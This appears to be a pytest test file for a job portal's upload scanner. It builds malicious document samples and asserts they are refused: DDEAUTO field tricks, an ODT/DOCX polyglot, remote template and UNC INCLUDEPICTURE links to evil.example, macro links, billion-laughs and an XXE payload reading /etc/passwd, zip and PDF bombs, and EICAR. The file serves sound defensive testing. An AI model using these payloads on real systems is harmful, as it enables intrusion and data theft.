def _polyglot_odt_docx() -> bytes:
    """An ODT that is also a docx (mimetype and [Content_Types].xml): Word opens the docx."""
    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
    word = zipfile.ZipFile(io.BytesIO(samples.word(_field(f"DDEAUTO {DDE_CMD}"))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            z.writestr(info, src.read(info))
        for info in word.infolist():
            if info.filename not in src.namelist():
                z.writestr(info, word.read(info))
    return out.getvalue()


ROUND_TWO.update(
    {
        # found in the red team's folder of built files, beyond the report's list
        "docx-field-ddeauto-after-switch": (
            samples.word(_field(f"\\* MERGEFORMAT DDEAUTO {DDE_CMD}")),
            "file_remote_content",
        ),
        "docx-field-ddeauto-zero-width-space": (
            samples.word(_field(f"\u200bDDEAUTO {DDE_CMD}")),
            "file_remote_content",
        ),
        "docx-template-http-without-target-mode": (
            samples.word(settings_rels=_template_rel(mode="")),
            "file_remote_content",
        ),
        "docx-dde-in-unreferenced-xml-part": (
            samples.word(
                extra={
                    "customXml/item9.xml": (
                        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                        f"<w:body>{_field(f'DDEAUTO {DDE_CMD}')}</w:body></w:document>"
                    )
                }
            ),
            "file_remote_content",
        ),
        "odt-docx-polyglot-dde": (_polyglot_odt_docx(), "file_remote_content"),
        "odt-link-to-basic-macro": (
            _odt_content(
                f'<text:p {ODF_NS}><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main'
                '?language=Basic&amp;location=document">click</text:a></text:p>'
            ),
            "file_active_content",
        ),
    }
)
ATTACKS.update(ROUND_TWO)


def _name(case: str) -> str:
    return NAMES[case.split("-", 1)[0]]


# --------------------------------------------------------------------------- look-alikes

GOOD = {
    "python-docx-cv-link-picture-chart": (samples.python_docx_cv, "Jane Doe CV.docx", DOCX, "CV"),
    "odfpy-odt": (samples.odfpy_odt, "Lebenslauf.odt", ODT, "CV"),
    "reportlab-pdf-with-links": (samples.reportlab_cv, "cv.pdf", PDF, "CV"),
    "scanned-image-pdf": (samples.scanned_pdf, "scan.pdf", PDF, "CV"),
    "pdfa": (samples.pdfa, "cv-pdfa.pdf", PDF, "CV"),
    "phone-jpeg-with-exif": (samples.photo_jpeg, "IMG_0001.JPG", JPEG, "OTHER"),
    "pillow-png": (samples.pillow_png, "diploma.png", PNG, "OTHER"),
    "latin-1-text": (
        lambda: "Jürgen Groß\nLebenslauf: Müller & Söhne, Köln\n".encode("latin-1"),
        "cv.txt",
        TXT,
        "CV",
    ),
    "utf-16-text": (
        lambda: "Jürgen Groß\nLebenslauf: 東京, Zürich\n".encode("utf-16"),
        "cv.txt",
        TXT,
        "CV",
    ),
    "rtf-with-picture-and-hyperlink": (samples.rtf_cv, "cv.rtf", RTF, "CV"),
    "doc-without-objects": (samples.word97, "cv.doc", DOC, "CV"),
    "fpdf2-cv-with-links-and-picture": (samples.fpdf_cv, "cv.pdf", PDF, "CV"),
    "img2pdf-scan": (samples.img2pdf_scan, "scan.pdf", PDF, "CV"),
    "pdf-form-without-scripts": (samples.reportlab_form, "form.pdf", PDF, "OTHER"),
    "docx-chart-data-from-openpyxl": (samples.openpyxl_chart_docx, "cv.docx", DOCX, "CV"),
    "doc-with-page-field": (
        lambda: samples.word97(text=b"Jane \x13 PAGE \x141\x15 Doe"),
        "cv.doc",
        DOC,
        "CV",
    ),
    "docx-embedding-a-pdf-package": (
        lambda: _embedding("oleObject1.bin", _package_object("references.pdf", samples.pdf())),
        "cv.docx",
        DOCX,
        "CV",
    ),
}


def _word_datastore() -> bytes:
    """What Word 2007+ writes at the end of every RTF: an MSXML reader's (empty) storage."""
    storage = samples.ole2({}, root_clsid=bytes.fromhex("e0af8e81d2c4d211a0ca00c04f8edf00"))
    return _rtf("{\\*\\datastore " + _ole1("Msxml2.SAXXMLReader.6.0", storage).hex() + "}Jane")


GOOD.update(
    {
        "rtf-with-words-own-datastore": (_word_datastore, "cv.rtf", RTF, "CV"),
        "docx-fields-with-switches-nesting-and-embed": (
            lambda: samples.word(
                _field("PAGE \\* MERGEFORMAT")
                + _field('QUOTE "Jane Doe"')
                + _field(" EMBED Excel.Sheet.12 ")
                + "<w:p>"
                + _fc("begin")
                + _it(' IF 1 = 1 "')
                + _fc("begin")
                + _it(" DATE ")
                + _fc("separate")
                + "<w:r><w:t>today</w:t></w:r>"
                + _fc("end")
                + _it('" "x" ')
                + _fc("end")
                + "</w:p>"
            ),
            "cv.docx",
            DOCX,
            "CV",
        ),
        "rtf-nested-field-as-argument": (
            lambda: _rtf(
                '{\\field{\\*\\fldinst IF 1 = 1 "{\\field{\\*\\fldinst DATE}{\\fldrslt today}}" "x"}'
                "{\\fldrslt today}}"
            ),
            "cv.rtf",
            RTF,
            "CV",
        ),
    }
)


# --------------------------------------------------------------------------- unit tests


def _check(tmp_path: Path, data: bytes, name: str, attachment_type: str = "OTHER") -> Accepted:
    path = tmp_path / "upload"
    path.write_bytes(data)
    with path.open("rb") as fh:
        return check_upload(fh, filename=name, attachment_type=attachment_type)


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_attack_is_refused(tmp_path: Path, case: str) -> None:
    data, code = ATTACKS[case]
    with pytest.raises(FileRefused) as caught:
        _check(tmp_path, data, _name(case))
    record("file attacks (check_upload)", tried=1, refused=1)
    assert caught.value.code == code, caught.value.message
    assert _name(case) in caught.value.message
    assert "application/" not in caught.value.message  # plain words, no MIME types


@pytest.mark.parametrize("case", sorted(GOOD))
def test_look_alike_is_accepted(tmp_path: Path, case: str) -> None:
    build, name, content_type, attachment_type = GOOD[case]
    accepted = _check(tmp_path, build(), name, attachment_type)
    assert accepted.content_type == content_type


# --------------------------------------------------------------------------- through HTTP


@pytest.fixture
def target(staff, sandbox):
    iid = sandbox.iid("full")
    return staff, iid, find_application(staff, iid, email="grace.hopper@example.com")["id"]


def _posts(sandbox) -> list[dict]:
    return [r for r in sandbox.requests_log() if r["method"] == "POST"]


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_attack_through_the_api_reaches_nobody(target, sandbox, case: str) -> None:
    staff, iid, aid = target
    data, code = ATTACKS[case]
    sandbox.clear_requests()
    before = len(sandbox.uploads())
    resp = staff.upload(iid, aid, data, _name(case), "OTHER")
    posted = _posts(sandbox)
    record(
        "file attacks (HTTP)",
        tried=1,
        wrongly_accepted=int(resp.status_code < 300),
        server_errors=int(resp.status_code >= 500),
    )
    assert resp.status_code in (415, 422), resp.text
    assert resp.json()["error"]["code"] == code
    assert not posted and len(sandbox.uploads()) == before


@pytest.mark.parametrize("case", sorted(GOOD))
def test_look_alike_through_the_api_is_sent(target, sandbox, case: str) -> None:
    staff, iid, aid = target
    build, name, content_type, attachment_type = GOOD[case]
    resp = staff.upload(iid, aid, build(), name, attachment_type)
    assert resp.status_code == 201, resp.text
    assert resp.json()["attachment"]["content_type"] == content_type


# --------------------------------------------------------------------------- pathological cost


def _docx_with_part(name: str, data: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(samples.word()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in src.infolist():
            if info.filename != name:
                z.writestr(info, src.read(info))
        # Stored, not deflated: 1 MB of repeated text deflates 350:1 and the ratio guard would
        # refuse it before the XML parser sees it. Here the parser is what is under test.
        z.writestr(name, data, compress_type=zipfile.ZIP_STORED)
    return out.getvalue()


PATHOLOGICAL = {
    # 1 MB of unclosed <Override (quadratic for the old regexes: 61.7 s for one file).
    "content-types-unclosed-override": (
        "[Content_Types].xml",
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types">' + b"<Override " * 100_000,
    ),
    "rels-unclosed-relationship": (
        "word/_rels/document.xml.rels",
        b'<?xml version="1.0"?><Relationships xmlns="' + samples.PKG_RELS.encode() + b'">'
        b"<Relationship " * 70_000,
    ),
    "document-many-instrtext": (
        "word/document.xml",
        b'<?xml version="1.0"?><w:document xmlns:w="' + samples.W_NS.encode() + b'"><w:body>'
        b"<w:p>" + b"<w:r><w:instrText>instrText " * 40_000,
    ),
    "deeply-nested-xml": (
        "word/document.xml",
        b'<?xml version="1.0"?><w:document xmlns:w="'
        + samples.W_NS.encode()
        + b'">'
        + b"<w:p>" * 200_000,
    ),
    "billion-laughs": (
        "word/document.xml",
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
        b'<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">'
        b'<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>'
        b'<w:document xmlns:w="' + samples.W_NS.encode() + b'"><w:body><w:p><w:r><w:t>&h;'
        b"</w:t></w:r></w:p></w:body></w:document>",
    ),
    "xxe-file": (
        "word/document.xml",
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="' + samples.W_NS.encode() + b'"><w:body><w:p><w:r><w:t>&x;'
        b"</w:t></w:r></w:p></w:body></w:document>",
    ),
}


@pytest.mark.parametrize("case", sorted(PATHOLOGICAL))
def test_pathological_xml_is_refused_as_damaged(tmp_path: Path, case: str) -> None:
    part, data = PATHOLOGICAL[case]
    with pytest.raises(FileRefused) as caught:
        _check(tmp_path, _docx_with_part(part, data), "cv.docx")
    assert caught.value.code == "file_damaged", caught.value.message


def test_zip_bomb_inside_an_embedded_part(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        z.writestr("xl/zeros.bin", bytes(40 * 1024 * 1024))
    data = _embedding("Microsoft_Excel_Worksheet.xlsx", inner.getvalue(), "package")
    with pytest.raises(FileRefused) as caught:
        _check(tmp_path, data, "cv.docx")
    assert caught.value.code == "file_compression_bomb"


def test_pdf_object_stream_bomb(tmp_path: Path) -> None:
    # 120 MB of objects packed to ~120 KB, behind ASCII85 and Flate.
    data = samples.pdf15({1: CATALOG, 2: PAGES, 3: JS}, {3}, "a85flate", pad=120 * 1024 * 1024)
    with pytest.raises(FileRefused) as caught:
        _check(tmp_path, data, "cv.pdf")
    assert caught.value.code == "file_compression_bomb"


# --------------------------------------------------------------------------- antivirus (clamd)


def test_eicar_and_custom_signature_are_refused_by_clamd(tmp_path: Path, clamd_server) -> None:
    from daemons import CUSTOM_MARKER, EICAR

    for setting in (clamd_server.unix, clamd_server.tcp):
        path = tmp_path / "eicar"
        path.write_bytes(EICAR)
        with path.open("rb") as fh, pytest.raises(FileRefused) as caught:
            check_upload(fh, filename="cv.txt", attachment_type="CV", clamd=setting)
        assert (caught.value.code, caught.value.status) == ("file_virus", 422)
        assert "Eicar-Test-Signature" in caught.value.message and '"cv.txt"' in caught.value.message
        path.write_bytes(b"Jane Doe\nEngineer\n" + CUSTOM_MARKER + b"\n")
        with path.open("rb") as fh, pytest.raises(FileRefused) as caught:
            check_upload(fh, filename="cv.txt", attachment_type="CV", clamd=setting)
        assert caught.value.code == "file_virus"
        assert "Portal.Test.Custom-1" in caught.value.message
        path.write_bytes(samples.python_docx_cv())
        with path.open("rb") as fh:
            accepted = check_upload(fh, filename="cv.docx", attachment_type="CV", clamd=setting)
        assert accepted.content_type == DOCX


def test_unreachable_scanner_refuses_everything(tmp_path: Path) -> None:
    path = tmp_path / "cv.pdf"
    path.write_bytes(samples.reportlab_cv())
    for setting in (f"unix:{tmp_path}/no-such.sock", "tcp:127.0.0.1:1", "nonsense"):
        with path.open("rb") as fh, pytest.raises(FileRefused) as caught:
            check_upload(fh, filename="cv.pdf", attachment_type="CV", clamd=setting)
        assert (caught.value.code, caught.value.status) == ("scan_unavailable", 503)
        assert "scanning is unavailable" in caught.value.message


@pytest.fixture(scope="module")
def scanning_portals(sandbox, clamd_server, tmp_path_factory):
    """Two portals in front of the sandbox: one scanning with clamd, one whose clamd is dead."""
    from conftest import ServerThread, portal_config

    from portal import create_app

    dead = f"unix:{tmp_path_factory.mktemp('clamd-dead')}/clamd.sock"
    servers = {
        "live": ServerThread(create_app(portal_config(sandbox, CLAMD=clamd_server.unix))).start(),
        "dead": ServerThread(create_app(portal_config(sandbox, CLAMD=dead))).start(),
    }
    yield servers
    for server in servers.values():
        server.stop()


@pytest.mark.parametrize(
    ("portal_name", "content", "name", "status", "code"),
    [
        ("live", "eicar", "cv.txt", 422, "file_virus"),
        ("live", "custom", "cv.txt", 422, "file_virus"),
        ("live", "clean", "cv.docx", 201, None),
        ("dead", "clean", "cv.docx", 503, "scan_unavailable"),
    ],
)
def test_scanning_through_the_api(
    scanning_portals, sandbox, portal_name, content, name, status, code
) -> None:
    from conftest import sign_in
    from daemons import CUSTOM_MARKER, EICAR

    data = {
        "eicar": EICAR,
        "custom": b"Jane Doe\n" + CUSTOM_MARKER + b"\n",
        "clean": samples.python_docx_cv(),
    }[content]
    staff = sign_in(scanning_portals[portal_name].url)
    iid = sandbox.iid("full")
    aid = find_application(staff, iid, email="grace.hopper@example.com")["id"]
    sandbox.clear_requests()
    resp = staff.upload(iid, aid, data, name, "CV")
    assert resp.status_code == status, resp.text
    posted = _posts(sandbox)
    if code is None:
        assert len(posted) == 1
    else:
        assert resp.json()["error"]["code"] == code and not posted
        if code == "scan_unavailable":
            assert "scanning is unavailable" in resp.json()["error"]["message"]


# --------------------------------------------------------------------------- properties
# Mutations a writer may make without changing what the file does: the verdict must hold.

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402


def _verdict(data: bytes, name: str) -> str:
    try:
        return check_upload(io.BytesIO(data), filename=name, attachment_type="OTHER").content_type
    except FileRefused as refused:
        return "!" + refused.code


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts})
    return [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]


INSTRUCTIONS = [
    (f" DDEAUTO {DDE_CMD} ", "!file_remote_content"),
    (' INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png" ', "!file_remote_content"),
    (' HYPERLINK "https://www.linkedin.com/in/jane" ', DOCX),
    (" PAGE ", DOCX),
]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pick=st.sampled_from(INSTRUCTIONS),
    cuts=st.lists(st.integers(0, 200), max_size=6),
    utf16=st.booleans(),
)
def test_fields_keep_their_verdict_however_split_and_encoded(pick, cuts, utf16) -> None:
    instruction, expected = pick
    body = _field(*_split(instruction, cuts))
    document = (
        f'<?xml version="1.0" encoding="{"UTF-16" if utf16 else "UTF-8"}"?>'
        f'<w:document xmlns:w="{samples.W_NS}" xmlns:r="{samples.R_NS}"><w:body>{body}'
        "</w:body></w:document>"
    )
    raw = document.encode("utf-16" if utf16 else "utf-8")
    data = _docx_with_part("word/document.xml", raw)
    assert _verdict(data, "cv.docx") == expected


RELS = [
    (_template_rel(), "!file_remote_content"),
    (_template_rel(mode="&#69;xternal"), "!file_remote_content"),
    (
        f'<Relationship Id="rId7" Type="{REL}hyperlink" Target="https://linkedin.com/in/j" '
        'TargetMode="External"/>',
        DOCX,
    ),
]


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pick=st.sampled_from(RELS), encoding=st.sampled_from(["utf-8", "utf-16", "utf-16-be"]))
def test_relationships_keep_their_verdict_in_any_encoding(pick, encoding) -> None:
    rel, expected = pick
    label = {"utf-8": "UTF-8", "utf-16": "UTF-16", "utf-16-be": "UTF-16"}[encoding]
    text = (
        f'<?xml version="1.0" encoding="{label}"?>'
        f'<Relationships xmlns="{samples.PKG_RELS}">{rel}</Relationships>'
    )
    raw = text.encode(encoding)
    if encoding == "utf-16-be":
        raw = b"\xfe\xff" + raw
    data = _word_with_rels_part("word/_rels/settings.xml.rels", raw)
    assert _verdict(data, "cv.docx") == expected


PDFS = [
    (lambda: _js_in_object_stream("flate"), "!file_active_content"),
    (lambda: _with_pikepdf(_attach), "!file_embedded_files"),
    (samples.reportlab_cv, PDF),
    (samples.pdfa, PDF),
]


@settings(max_examples=16, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pick=st.sampled_from(PDFS),
    mode=st.sampled_from(list(pikepdf.ObjectStreamMode)),
    compress=st.booleans(),
    qdf=st.booleans(),
)
def test_pdf_verdict_survives_repacking(pick, mode, compress, qdf) -> None:
    build, expected = pick
    with pikepdf.open(io.BytesIO(build())) as pdf:
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=mode, compress_streams=compress, qdf=qdf)
    assert _verdict(out.getvalue(), "cv.pdf") == expected


def _nest(inner: bytes, levels: int) -> bytes:
    for _ in range(levels):
        inner = _embedding("Microsoft_Word_Document.docx", inner, "package")
    return inner


def test_embedded_files_are_checked_at_every_level(tmp_path: Path) -> None:
    dde = samples.word(_field(f" DDEAUTO {DDE_CMD} "))
    with pytest.raises(FileRefused) as caught:
        _check(tmp_path, _nest(dde, 2), "cv.docx")
    assert caught.value.code == "file_remote_content"
    assert _check(tmp_path, _nest(samples.word(), 2), "cv.docx").content_type == DOCX
    with pytest.raises(FileRefused) as caught:  # deeper than we look: not "fine"
        _check(tmp_path, _nest(samples.word(), 6), "cv.docx")
    assert caught.value.code == "file_too_complex"
